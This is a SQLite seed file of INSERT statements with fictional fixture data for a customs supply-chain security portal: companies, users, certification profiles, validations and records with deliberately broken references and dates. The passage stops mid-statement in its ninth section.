-- The cast of Portal 2.0: INSERT statements for SQLite. README.md describes the companies, cast.toml lists which row demonstrates which rule.
-- Rows of profile 7 have ids from 700 to 799 (7: profile; 701, 702, ...: models, entities, users, ...), so that a key identifies its profile.
-- Invisible characters are written as char(..), bytes that are not valid text as X'..'.

-- 0. catalogues -------------------------------------------------------------------------------------------------------
INSERT INTO business_type (business_type_cd, name, active_ind) VALUES
  ('IMP', 'Importer', 'Y'), ('EXP', 'Exporter', 'Y'), ('BRK', 'Customs Broker', 'Y'), ('CON', 'Consolidator', 'Y'),
  ('3PL', 'Third Party Logistics Provider', 'Y'), ('AIR', 'Air Carrier', 'Y'), ('SEA', 'Sea Carrier', 'Y'), ('RAIL', 'Rail Carrier', 'Y'),
  ('HWM', 'Highway Carrier US/Mexico', 'Y'), ('HWC', 'Highway Carrier US/Canada', 'Y'), ('HWY', 'Highway Carrier (before the split by border)', 'N'),
  ('MLH', 'Mexican Long Haul Carrier', 'Y'), ('FMF', 'Foreign Manufacturer', 'Y'), ('MPT', 'Marine Port Authority / Terminal Operator', 'Y');
INSERT INTO criteria_version (criteria_version_id, name, effective_dt) VALUES
  (1, 'Before the criteria were numbered', '2001-11-01'), (2, 'Minimum Security Criteria of 2015', '2015-08-01'),
  (3, 'Minimum Security Criteria of 2020', '2020-01-01');
INSERT INTO criteria_category (category_no, name, focus_area) VALUES
  (1, 'Security Vision & Responsibility', 'Corporate Security'), (2, 'Risk Assessment', 'Corporate Security'),
  (3, 'Business Partners', 'Corporate Security'), (4, 'Cybersecurity', 'Corporate Security'),
  (5, 'Conveyance and Instruments of International Traffic Security', 'Transportation Security'),
  (6, 'Seal Security', 'Transportation Security'), (7, 'Procedural Security', 'Transportation Security'),
  (8, 'Agricultural Security', 'Transportation Security'), (9, 'Physical Security', 'People and Physical Security'),
  (10, 'Physical Access Controls', 'People and Physical Security'), (11, 'Personnel Security', 'People and Physical Security'),
  (12, 'Education, Training and Awareness', 'People and Physical Security');
INSERT INTO profile_question (question_id, criteria_version_id, category_no, criterion_no, question_no, question_text) VALUES
  (101, 3, 1, '1.1', 1, 'How does the company promote a culture of security?'),
  (102, 3, 1, '1.2', 1, 'Who reviews the security program, and how often?'),
  (301, 3, 3, '3.1', 1, 'How are new business partners screened?'),
  (405, 3, 4, '4.5', 1, 'How does the company protect its systems against intrusion?'),
  (601, 3, 6, '6.1', 1, 'Describe the written high security seal procedures.'),
  (702, 3, 7, '7.2', 1, 'How is cargo that stays overnight protected?'),
  (723, 3, 7, '7.23', 1, 'Describe the procedure for reporting an incident.'),
  (1101, 3, 11, '11.1', 1, 'How are applicants screened?'),
  (2101, 2, 1, '1.1', 1, 'The question of 2015 about management support.'),
  -- A version that is not in the catalogue: catalogue rows load without checks.
  (9101, 9, 99, '99.1', 1, 'A draft question of a version that never came.');
INSERT INTO question_applicability (question_id, business_type_cd, strength_cd) VALUES
  (101, 'IMP', 'MUST'), (101, 'EXP', 'SHOULD'), (101, 'BRK', 'MUST'), (101, 'CON', 'MUST'), (101, 'HWM', 'MUST'), (101, 'HWC', 'MUST'),
  (102, 'IMP', 'MUST'), (102, 'BRK', 'SHOULD'), (102, 'CON', 'MUST'), (301, 'IMP', 'MUST'), (301, 'BRK', 'MUST'),
  (405, 'IMP', 'MUST'), (405, 'BRK', 'MUST'), (405, 'CON', 'SHOULD'),
  (601, 'IMP', 'SHOULD'), (601, 'CON', 'MUST'), (601, 'HWM', 'MUST'),          -- seals: not for brokers
  (702, 'CON', 'MUST'), (723, 'IMP', 'MUST'), (1101, 'IMP', 'MUST'), (2101, 'IMP', 'MUST'),
  (101, 'EFC', 'SHOULD'),                                                      -- a type that is missing from the catalogue
  (9999, 'IMP', 'MUST');                                                       -- a question that is missing from the catalogue
INSERT INTO agreement_version (agreement_version_id, agreement_cd, version_no, business_type_cd, effective_dt, text_sha256) VALUES
  (1, 'VOLUNTARY', 1, NULL, '2001-11-01', NULL),
  (2, 'VOLUNTARY', 2, NULL, '2015-08-01', 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad'),
  (3, 'SVI_CONSENT', 1, NULL, '2008-01-01', NULL), (4, 'INTL_CONSENT', 1, NULL, '2012-01-01', NULL),
  (5, 'VOLUNTARY', 3, 'IMP', '2019-01-01', NULL), (6, 'VOLUNTARY', 3, 'HWC', '2019-01-01', NULL),
  (7, 'VOLUNTARY', 3, 'EFC', '2022-01-01', NULL);                              -- for a type that is missing from the catalogue
INSERT INTO cbp_user (cbp_user_id, display_name, role_cd, office_cd, active_ind) VALUES
  (1, 'Specialist One', 'SCSS', 'NEWARK', 'Y'), (2, 'Supervisor Two', 'SUPERVISOR', 'NEWARK', 'Y'),
  (3, 'Headquarters Three', 'HQ', NULL, 'Y'), (4, 'Retired Four', 'SCSS', 'BUFFALO', 'N');
INSERT INTO trade_organization (trade_org_id, org_name, created_at) VALUES
  (1, 'Pine Group', '2003-01-02 03:04:05'), (2, 'An organisation of which nothing is left', '2004-01-01 00:00:00');
INSERT INTO consultant_company (consultant_company_id, name, street1, city, state_cd, postal_code, country_cd) VALUES
  (1, 'Lindqvist Advisory', '1 Pier Street', 'Newark', 'NJ', '07101', 'US');

-- 1. Harbor & Pine Imports: one importer, everything in order ---------------------------------------------------------
INSERT INTO company_profile VALUES (1, 1, 'Harbor & Pine Imports', 'Harbor Pine', 'CORPORATION', '1987-04-01', '36', '1,250', '+1 201 555 0100', NULL,
  'https://harbor-pine.example', 'Founded on a pier in 1987.', '2005-03-04 10:00:00', '2022-02-02 02:02:02.000002', 'N');
INSERT INTO company_address VALUES
  (101, 1, 'HEADQUARTERS', '1 Harbor Way', 'Suite 4', 'Newark', 'NJ', '07101', 'US', 'Y', 'Y', '2020-01-01 00:00:00'),
  (102, 1, 'WAREHOUSE', '9 Pine Road', '', 'Elizabeth', 'NJ', '07201', 'US', 'N', 'N', '2020-01-01 00:00:00');
INSERT INTO portal_user VALUES
  (101, 'rosa.field@harbor-pine.example', '$2b$12$not-a-hash-101', 'Ms', 'Rosa', 'E', 'Field', 'Vice President', '+1 201 555 0101', NULL, 'ACTIVE', NULL,
   '2023-08-30 12:34:56.789012', '2005-03-04 10:00:00', '2023-08-30 12:34:56.789012'),
  (102, 'tom.stone@harbor-pine.example', '$2b$12$not-a-hash-102', NULL, 'Tom', NULL, 'Stone', 'Compliance', NULL, NULL, 'ACTIVE', NULL,
   '2023-09-01 08:00:00', '2010-01-01 00:00:00', '2023-09-01 08:00:00');
INSERT INTO company_contact VALUES
  (101, 1, 101, 'OFFICER', 'Y', 'Y', 'Y', 'Rosa', 'Field', 'rosa.field@harbor-pine.example', '+1 201 555 0101', NULL, '2005-03-04 10:00:00', NULL, '2021-01-01 00:00:00'),
  (102, 1, 102, 'EMPLOYEE', 'N', 'N', 'Y', 'Tom', 'Stone', 'tom.stone@harbor-pine.example', NULL, NULL, '2010-01-01 00:00:00', NULL, '2021-01-01 00:00:00'),
  (103, 1, 1701, 'CONSULTANT', 'N', 'Y', 'N', 'Per', 'Lindqvist', 'per@lindqvist.example', NULL, 1, '2012-01-01 00:00:00', NULL, '2021-01-01 00:00:00');
INSERT INTO security_model VALUES (101, 1, 'Harbor & Pine Importer', 'APPLICATION', NULL, '2005-03-04 10:00:00', 'N', '2005-03-04 10:00:00');
INSERT INTO model_entity VALUES (101, 101, 'IMP', NULL, '10000101', 'CERTIFIED', '3', '2005-03-04', '2005-09-01', '2023-09-01', '2021-06-30', '2025-06-30',
  NULL, 1, 'NEWARK', '2005-03-04 10:00:00', '2022-02-02 02:02:02');
INSERT INTO entity_status_history VALUES
  (101, 101, 'APPLICANT', NULL, '2005-03-04 10:00:00', '2005-09-01 00:00:00', NULL, NULL),
  (102, 101, 'CERTIFIED', '2', '2005-09-01 00:00:00', '2012-01-01 00:00:00', 'Met the criteria.', 1),
  (103, 101, 'CERTIFIED', '3', '2012-01-01 00:00:00', NULL, 'Best practices found.', 2);
INSERT INTO entity_identifier VALUES
  (101, NULL, 101, 'IOR', '12-3456789AB', 'Y', '2005-03-04', NULL), (102, 1, NULL, 'BOND', 'bond 00-1', 'Y', '2005-03-04', '9999-12-31'),
  (103, 1, NULL, 'DUNS', '12-345-6789', 'Y', NULL, NULL);
INSERT INTO importer_country_of_origin VALUES (101, 1, 'VN'), (101, 2, 'MX'), (101, 3, 'DE');
INSERT INTO eligibility_answer VALUES (101, 2, 1, 'Y', '2005-03-04 10:00:00'), (101, 2, 2, 'N', '2005-03-04 10:00:01');
INSERT INTO agreement_signature VALUES
  (101, 1, 1, NULL, 101, 101, 'Rosa Field', 'Vice President', 'rosa.field@harbor-pine.example', '2005-03-04 10:00:00', '192.0.2.1'),
  (102, 3, 1, NULL, 101, 101, 'Rosa Field', 'Vice President', 'rosa.field@harbor-pine.example', '2008-02-01 00:00:00', '2001:db8::1');
INSERT INTO program_participation VALUES (101, 1, 101, 'AEO_EU', 'ACTIVE', 102, '2012-06-01');
INSERT INTO vetting_record VALUES (101, 101, X'00FF10C0FFEE', '2005-03-05 00:00:00');
INSERT INTO security_profile VALUES
  (101, 101, 3, 2022, 'APPROVED', '2022-06-01', '2022-09-01', '2022-08-15 15:00:00', 102, '2022-10-01 00:00:00', 1, 'N'),
  (102, 101, 3, 2023, 'PENDING_REVIEW', '2023-06-01', '2023-09-01', '2023-08-15 15:00:00', 102, NULL, NULL, 'Y');
INSERT INTO profile_response VALUES
  (101, 101, 101, 'Posters, talks, and a yearly drill.', 'COMPLETE', 'APPROVED', '2022-08-01 00:00:00', 102),
  (102, 101, 601, 'ISO 17712 seals, VVTT, a log.', 'COMPLETE', 'APPROVED', '2022-08-01 00:00:00', 102),
  (103, 102, 101, 'Posters, talks, and two yearly drills.', 'COMPLETE', 'PENDING_REVIEW', '2023-08-01 00:00:00', 102),
  (104, 102, 702, 'Not for importers, and yet answered.', 'COMPLETE', NULL, '2023-08-01 00:00:00', 102),
  (105, 102, 723, '', 'INCOMPLETE', NULL, '2023-08-01 00:00:00', 102), (106, 102, 1101, NULL, 'INCOMPLETE', NULL, '2023-08-01 00:00:00', NULL);
INSERT INTO response_comment VALUES
  (101, 101, 1, 'N', 'Well done.', '2022-09-02 00:00:00'), (102, 101, 1, 'Y', 'Look closer next year.', '2022-09-02 00:00:01'),
  (103, 102, 2, NULL, 'From before the mark existed: counts as internal.', '2022-09-02 00:00:02');
INSERT INTO document VALUES
  (101, 'PARTNER', 1, 101, 'SEAL_PROCEDURE', 'seals.pdf', 'application/pdf', 3, 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad', NULL, 1, NULL,
   102, NULL, '2022-08-01 00:00:00', 'N'),
  (102, 'INTERNAL', 1, 101, 'VETTING', 'site-visit.txt', 'text/plain', NULL, NULL, '2016/plan.txt', 1, NULL, NULL, 1, '2021-07-01 00:00:00', 'N');
INSERT INTO document_content VALUES (101, X'616263');
INSERT INTO document_link VALUES (101, 'RESPONSE', 102, '2022-08-01 00:00:00');
INSERT INTO validation VALUES (101, 1, 101, 101, 'REVALIDATION', 'CLOSED', '2021-05-01', '2021-07-30', '2021-07-01 12:00:00', '2021-07-20 00:00:00', 'Two visits, one action.', 1);
INSERT INTO validation_visit VALUES
  (101, 101, 'Headquarters', '2021-06-01', '2021-06-02', 'Harbor Way', '1 Harbor Way', 'Newark', 'US'),
  (102, 101, 'Foreign site', '2021-06-10', '2021-06-10', 'Factory', NULL, 'Hai Phong', 'VN');
INSERT INTO validation_finding VALUES
  (101, 101, 601, 'ACTION_REQUIRED', 'The seal log lacks a column.', '2021-09-30', 'CLOSED'),
  (102, 101, 101, 'BEST_PRACTICE', 'The yearly drill.', NULL, 'CLOSED'), (103, 101, NULL, 'RECOMMENDATION', 'A second camera.', NULL, 'OPEN'),
  (104, 101, NULL, 'INTERNAL', 'For the next specialist: ask about the second warehouse.', NULL, 'OPEN');
INSERT INTO finding_response VALUES (101, 101, 1, 'The column was added.', 102, '2021-08-01 00:00:00', 'APPROVED');
INSERT INTO svi_setting (company_profile_id, consent_signature_id, auto_accept_ind) VALUES (1, 102, 'Y');
INSERT INTO message_thread VALUES (101, 1, 101, 'Your visit', '2021-05-02 00:00:00'), (102, 1, NULL, 'Your profile', '2023-05-02 00:00:00');
INSERT INTO message VALUES
  (101, 101, NULL, 1, 'We shall come in June.', '2021-05-02 00:00:00'), (102, 101, 102, NULL, 'You are welcome.', '2021-05-03 00:00:00'),
  (103, 102, NULL, 1, 'Please renew.', '2023-05-02 00:00:00');
INSERT INTO internal_note VALUES (101, 1, 101, 'GENERAL', 'A reliable partner.', 1, '2021-07-01 00:00:00'), (102, 1, NULL, 'GENERAL', 'Of the whole company.', 2, '2021-07-02 00:00:00');
INSERT INTO portal_task VALUES (101, 1, 101, 'ANNUAL_REVIEW', '2023-09-01', '2023-08-15 15:00:00'), (102, 1, NULL, 'UPDATE_CONTACTS', '2024-01-31', NULL);
INSERT INTO event_history VALUES
  (101, 1, 101, 'STATUS_CHANGE', 'CERTIFIED', 'Specialist One', '2005-08-31 20:00:00'), (102, 1, NULL, 'PHONE_CHANGE', '+1 201 555 0100', 'Rosa Field', '2022-02-01 21:02:02');

-- 2. Twin Rivers Trading: two importers in two models, one of them suspended -----------------------------------------
INSERT INTO company_profile (company_profile_id, trade_org_id, company_name, employee_count_txt, created_at, modified_at, deleted_ind) VALUES
  (2, 1, 'Twin Rivers Trading', '100-249', '2009-01-01 00:00:00', '2021-01-01 00:00:00', 'N');
INSERT INTO company_address VALUES (201, 2, 'HEADQUARTERS', '2 River Road', NULL, 'Memphis', 'TN', '38101', 'US', 'Y', 'Y', '2020-01-01 00:00:00');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, lock_reason_cd, last_login_at, created_at, modified_at) VALUES
  (201, 'lee@twin-rivers.example', 'x', 'Lee', 'Marsh', 'LOCKED', 'COMPANY_STATUS', '2022-12-01 00:00:00', '2009-01-01 00:00:00', '2023-01-01 00:00:00');
INSERT INTO company_contact VALUES
  (201, 2, 201, 'OFFICER', 'Y', 'Y', 'Y', 'Lee', 'Marsh', 'lee@twin-rivers.example', NULL, NULL, '2009-01-01 00:00:00', NULL, '2021-01-01 00:00:00'),
  (202, 2, 1701, 'CONSULTANT', 'N', 'N', 'N', 'Per', 'Lindqvist', NULL, NULL, 1, '2012-01-01 00:00:00', NULL, '2021-01-01 00:00:00'),
  (203, 2, 201, 'EMPLOYEE', 'N', 'N', 'N', 'Lee', 'Marsh', NULL, NULL, NULL, '2009-01-01 00:00:00', '2010-01-01 00:00:00', '2010-01-01 00:00:00');      -- his first contact, removed
INSERT INTO security_model VALUES
  (201, 2, 'East River', 'APPLICATION', NULL, '2009-01-01 00:00:00', 'N', '2009-01-01 00:00:00'),
  (202, 2, 'West River', 'SPLIT', 201, '2014-01-01 00:00:00', 'N', '2014-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, tier_cd, certification_dt, scss_cbp_user_id, created_at, modified_at) VALUES
  (201, 201, 'IMP', '10000201', 'CERTIFIED', '2', '2010-01-01', 1, '2009-01-01 00:00:00', '2021-01-01 00:00:00'),
  (202, 202, 'IMP', '10000202', 'SUSPENDED', '1', '2014-06-01', 4, '2014-01-01 00:00:00', '2023-01-01 00:00:00');
INSERT INTO entity_identifier VALUES
  (201, NULL, 201, 'IOR', '20-0000001', 'Y', NULL, NULL), (202, NULL, 202, 'IOR', '20-0000002', 'Y', NULL, NULL), (203, NULL, 202, 'IOR', '20-0000003', 'Y', NULL, NULL),
  (204, 2, NULL, 'BOND', 'B-2', 'Y', NULL, NULL);
INSERT INTO agreement_signature (signature_id, agreement_version_id, company_profile_id, security_model_id, entity_id, signer_user_id, signer_name, signed_at) VALUES
  (201, 2, 2, NULL, NULL, 201, 'Lee Marsh', '2015-09-01 00:00:00');
INSERT INTO security_profile (security_profile_id, security_model_id, criteria_version_id, profile_year, status_cd, current_ind) VALUES
  (201, 201, 3, 2022, 'APPROVED', 'Y'), (202, 202, 3, 2022, 'REJECTED', 'Y');
INSERT INTO profile_response (response_id, security_profile_id, question_id, response_text, completion_cd, modified_at) VALUES
  (201, 201, 101, 'East: as in the handbook.', 'COMPLETE', '2022-01-01 00:00:00'), (202, 202, 101, 'West: as in the handbook.', 'COMPLETE', '2022-01-01 00:00:00');
INSERT INTO document (document_id, library_cd, company_profile_id, security_model_id, file_name, version_no, uploaded_at, deleted_ind) VALUES
  (201, 'PARTNER', 2, NULL, 'handbook.pdf', 1, '2020-01-01 00:00:00', 'N');
INSERT INTO document_content VALUES (201, CAST('The handbook of both rivers.' AS BLOB));

-- 3. Meridian Customs & Freight: a broker and a consolidator merged into one model -----------------------------------
INSERT INTO company_profile (company_profile_id, company_name, employee_count_txt, created_at, modified_at, deleted_ind) VALUES
  (3, 'Meridian Customs & Freight', '12', '2008-01-01 00:00:00', '2021-01-01 00:00:00', 'N');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
  (301, 'ines@meridian.example', 'x', 'Ines', 'Duarte', 'ACTIVE', '2008-01-01 00:00:00', '2021-01-01 00:00:00');
INSERT INTO company_contact VALUES
  (301, 3, 301, 'OFFICER', 'Y', 'Y', 'Y', 'Ines', 'Duarte', 'ines@meridian.example', NULL, NULL, '2008-01-01 00:00:00', NULL, '2021-01-01 00:00:00');
INSERT INTO security_model VALUES (301, 3, 'Meridian (merged)', 'MERGE', 399, '2016-01-01 00:00:00', 'N', '2016-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, sub_type_cd, account_number, status_cd, tier_cd, created_at, modified_at) VALUES
  (301, 301, 'BRK', NULL, '10000301', 'CERTIFIED', '2', '2008-01-01 00:00:00', '2021-01-01 00:00:00'),
  (302, 301, 'CON', 'NVOCC', '10000302', 'APPROVED', '1', '2016-01-01 00:00:00', '2021-01-01 00:00:00');
INSERT INTO consolidator_mode VALUES (302, 'AIR'), (302, 'SEA');
INSERT INTO entity_identifier VALUES (301, 3, NULL, 'FILER', 'ABC', 'Y', NULL, NULL), (302, 3, NULL, 'LICENSE', '4711', 'Y', NULL, NULL), (303, 3, NULL, 'FMC', '012345N', 'Y', NULL, NULL);
INSERT INTO agreement_signature (signature_id, agreement_version_id, company_profile_id, security_model_id, entity_id, signer_user_id, signer_name, signed_at) VALUES
  (301, 2, 3, 301, NULL, 301, 'Ines Duarte', '2016-02-01 00:00:00');
INSERT INTO security_profile (security_profile_id, security_model_id, criteria_version_id, profile_year, status_cd, current_ind) VALUES (301, 301, 3, 2022, 'APPROVED', 'Y');
INSERT INTO profile_response (response_id, security_profile_id, question_id, response_text, completion_cd, modified_at) VALUES
  (301, 301, 405, 'For the broker a must, for the consolidator a should.', 'COMPLETE', '2022-01-01 00:00:00'),
  (302, 301, 601, 'Seals: the broker does not apply any, its account keeps the answer.', 'COMPLETE', '2022-01-01 00:00:00');
INSERT INTO response_comment VALUES (301, 301, 1, 'N', 'Seen by both.', '2022-02-01 00:00:00');
INSERT INTO document (document_id, library_cd, company_profile_id, security_model_id, file_name, version_no, uploaded_by_user_id, uploaded_at, deleted_ind) VALUES
  (301, 'PARTNER', 3, 301, 'merged.pdf', 1, 301, '2020-01-01 00:00:00', 'N');
INSERT INTO document_content VALUES (301, CAST('One document of two accounts.' AS BLOB));
INSERT INTO document_link VALUES (301, 'RESPONSE', 301, '2020-01-01 00:00:00'), (301, 'MODEL', 301, '2020-01-01 00:00:01');
INSERT INTO validation (validation_id, company_profile_id, security_model_id, entity_id, validation_type_cd, status_cd, initiated_dt) VALUES (301, 3, 301, NULL, 'INITIAL', 'OPEN', '2022-01-01');
INSERT INTO validation_finding VALUES (301, 301, 405, 'ACTION_REQUIRED', 'Update the firewall.', '2022-06-30', 'OPEN');
INSERT INTO finding_response (finding_response_id, finding_id, seq_no, response_text, submitted_by_user_id, submitted_at) VALUES
  (301, 301, 1, 'Ordered.', 301, '2022-03-01 00:00:00'), (302, 301, 2, 'Updated.', 301, '2022-04-01 00:00:00');

-- 4. Empty Shell Holdings: a profile without entities; its dependents are held, its user still gets a login ----------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (4, 'Empty Shell Holdings', '2019-01-01 00:00:00', '2019-01-01 00:00:00', 'N');
INSERT INTO company_address VALUES (401, 4, 'HEADQUARTERS', '4 Nowhere', NULL, 'Dover', 'DE', '19901', 'US', 'Y', 'Y', '2019-01-01 00:00:00');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
  (401, 'ghost@empty-shell.example', 'x', 'Gus', 'Ghost', 'ACTIVE', '2019-01-01 00:00:00', '2019-01-01 00:00:00');
INSERT INTO company_contact VALUES
  (401, 4, 401, 'OFFICER', 'Y', 'Y', 'Y', 'Gus', 'Ghost', 'ghost@empty-shell.example', NULL, NULL, '2019-01-01 00:00:00', NULL, '2019-01-01 00:00:00');
INSERT INTO document (document_id, library_cd, company_profile_id, file_name, version_no, uploaded_at, deleted_ind) VALUES (401, 'PARTNER', 4, 'plans.txt', 1, '2019-01-01 00:00:00', 'N');
INSERT INTO document_content VALUES (401, CAST('Plans of a company that never came.' AS BLOB));
INSERT INTO event_history VALUES (401, 4, NULL, 'CREATED', NULL, 'Gus Ghost', '2018-12-31 19:00:00');

-- 5. Half Built Carriers: a model without entities and a valid one ---------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (5, 'Half Built Carriers', '2010-01-01 00:00:00', '2010-01-01 00:00:00', 'N');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
  (501, 'ada@half-built.example', 'x', 'Ada', 'Bell', 'ACTIVE', '2010-01-01 00:00:00', '2010-01-01 00:00:00');
INSERT INTO company_contact VALUES
  (501, 5, 501, 'OFFICER', 'Y', 'Y', 'Y', 'Ada', 'Bell', 'ada@half-built.example', NULL, NULL, '2010-01-01 00:00:00', NULL, '2010-01-01 00:00:00');
INSERT INTO security_model VALUES
  (501, 5, 'Built', 'APPLICATION', NULL, '2010-01-01 00:00:00', 'N', '2010-01-01 00:00:00'),
  (502, 5, 'Never built', 'EXPANSION', 501, '2018-01-01 00:00:00', 'N', '2018-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, tier_cd, border_crossed_cd, created_at, modified_at) VALUES
  (501, 501, 'HWC', '10000501', 'CERTIFIED', '2', 'CAN', '2010-01-01 00:00:00', '2010-01-01 00:00:00');
INSERT INTO entity_identifier VALUES (501, NULL, 501, 'SCAC', 'HBCA', 'Y', NULL, NULL), (502, NULL, 501, 'USDOT', '1234567', 'Y', NULL, NULL);
INSERT INTO highway_crossing VALUES (501, '3604'), (501, '3401');
INSERT INTO security_profile (security_profile_id, security_model_id, criteria_version_id, profile_year, status_cd, current_ind) VALUES (502, 502, 3, 2018, 'INCOMPLETE', 'Y');
INSERT INTO profile_response (response_id, security_profile_id, question_id, response_text, completion_cd, modified_at) VALUES
  (502, 502, 101, 'An answer that hangs on nothing.', 'INCOMPLETE', '2018-01-01 00:00:00');

-- 6. Broken Chain Logistics: a good account, and rows whose model, profile, entity, response or thread never existed ----------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (6, 'Broken Chain Logistics', '2011-01-01 00:00:00', '2011-01-01 00:00:00', 'N');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
  (601, 'kim@broken-chain.example', 'x', 'Kim', 'Chain', 'ACTIVE', '2011-01-01 00:00:00', '2011-01-01 00:00:00');
INSERT INTO company_contact VALUES
  (601, 6, 601, 'OFFICER', 'Y', 'Y', 'Y', 'Kim', 'Chain', 'kim@broken-chain.example', NULL, NULL, '2011-01-01 00:00:00', NULL, '2011-01-01 00:00:00'),
  (602, 699, 1913, 'EMPLOYEE', 'N', 'N', 'N', 'Lost', 'Link', NULL, NULL, NULL, '2011-01-01 00:00:00', NULL, '2011-01-01 00:00:00');
INSERT INTO security_model VALUES
  (601, 6, 'Chain', 'APPLICATION', NULL, '2011-01-01 00:00:00', 'N', '2011-01-01 00:00:00'),
  (602, 699, 'Of a profile that is gone', 'APPLICATION', NULL, '2011-01-01 00:00:00', 'N', '2011-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, tier_cd, created_at, modified_at) VALUES
  (601, 601, '3PL', '10000601', 'CERTIFIED', '2', '2011-01-01 00:00:00', '2011-01-01 00:00:00'),
  (602, 602, '3PL', '1304-DUP', 'CERTIFIED', '2', '2011-01-01 00:00:00', '2011-01-01 00:00:00'),          -- held: does not compete with 1304
  (603, 698, '3PL', 'M000001302', 'CERTIFIED', '2', '2011-01-01 00:00:00', '2011-01-01 00:00:00');        -- held: does not conflict with 1302
INSERT INTO company_address (address_id, company_profile_id, address_type_cd, city, mailing_ind, primary_ind, modified_at) VALUES
  (602, 699, 'HEADQUARTERS', 'Nowhere', 'Y', 'Y', '2011-01-01 00:00:00');
INSERT INTO entity_status_history (history_id, entity_id, status_cd, from_at) VALUES
  (602, 602, 'CERTIFIED', '2011-01-01 00:00:00'), (603, 603, 'CERTIFIED', '2011-01-01 00:00:00'), (604, 697, 'CERTIFIED', '2011-01-01 00:00:00');
INSERT INTO vetting_record VALUES (603, 603, X'DEADBEEF', '2011-01-01 00:00:00');
INSERT INTO internal_note VALUES (603, 6, 603, 'GENERAL', 'Names an entity that is held, so the good profile beside it does not count.', 1, '2011-01-01 00:00:00');
INSERT INTO portal_task VALUES (601, 6, 697, 'ANNUAL_REVIEW', '2023-09-20', NULL);
INSERT INTO response_comment VALUES
  (601, 699, 1, 'N', 'On a response that never was.', '2011-01-01 00:00:00'),
  (602, 699, 1, 'N', 'Held, and yet its bytes are kept: a' || char(0) || 'b.', '2011-01-01 00:00:00');
INSERT INTO message VALUES (601, 699, NULL, 1, 'In a thread that never was.', '2011-01-01 00:00:00');

-- 7. Damaged Dates Seafreight: implausible dates, which are loaded unchanged -----------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, business_start_dt, employee_count_txt, created_at, modified_at, deleted_ind) VALUES
  (7, 'Damaged Dates Seafreight', '0001-01-01', '', '2001-11-01 00:00:00', '2015-08-02 03:00:00', 'N');
INSERT INTO company_contact VALUES
  (701, 7, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Noor', 'Seidel', 'noor@damaged-dates.example', NULL, NULL, '2001-11-01 00:00:00', NULL, '2001-11-01 00:00:00');
INSERT INTO security_model VALUES (701, 7, NULL, 'APPLICATION', NULL, '2001-11-01 00:00:00', 'N', '2015-08-02 03:00:00');
INSERT INTO model_entity VALUES (701, 701, 'SEA', NULL, '10000701', 'CERTIFIED', '2', '9999-12-31', '0001-01-01', '2015-08-01', '1582-10-10', '2024-02-29',
  NULL, NULL, NULL, '0001-01-01 00:00:00', '9999-12-31 23:59:59.999999');
INSERT INTO entity_identifier VALUES (701, 7, NULL, 'SCAC', 'DDSF', 'Y', '0001-01-01', '9999-12-31');
INSERT INTO entity_status_history VALUES (701, 701, 'CERTIFIED', '3', '2015-08-01 00:00:00', '2002-01-01 00:00:00', 'Ends before it begins.', NULL);

-- 8. Turned Away Exports: four entities that left the program in four ways ---------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, employee_count_txt, created_at, modified_at, deleted_ind) VALUES (8, 'Turned Away Exports', '0', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
  (801, 'olga@turned-away.example', 'x', 'Olga', 'Reiss', 'ACTIVE', '2012-01-01 00:00:00', '2012-01-01 00:00:00');
INSERT INTO company_contact VALUES
  (801, 8, 801, 'OFFICER', 'Y', 'Y', 'Y', 'Olga', 'Reiss', 'olga@turned-away.example', NULL, NULL, '2012-01-01 00:00:00', NULL, '2012-01-01 00:00:00');
INSERT INTO security_model VALUES
  (801, 8, 'One', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'), (802, 8, 'Two', 'APPLICATION', NULL, '2013-01-01 00:00:00', 'N', '2013-01-01 00:00:00'),
  (803, 8, 'Three', 'APPLICATION', NULL, '2014-01-01 00:00:00', 'N', '2014-01-01 00:00:00'), (804, 8, 'Four', 'APPLICATION', NULL, '2015-01-01 00:00:00', 'N', '2015-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, tier_cd, created_at, modified_at) VALUES
  (801, 801, 'EXP', '10000801', 'REJECTED', NULL, '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (802, 802, 'EXP', '10000802', 'INELIGIBLE', NULL, '2013-01-01 00:00:00', '2020-01-01 00:00:00'),
  (803, 803, 'EXP', '10000803', 'REMOVED', '2', '2014-01-01 00:00:00', '2020-01-01 00:00:00'), (804, 804, 'EXP', '10000804', 'WITHDRAWN', '1', '2015-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO entity_identifier VALUES (801, 8, NULL, 'EIN', '80-0000001', 'Y', NULL, NULL);

-- 9. Closed Wing Terminals: a soft-deleted model, an active one, and one whose indicator is not 'Y' --------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (9, 'Closed Wing Terminals', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO company_contact VALUES
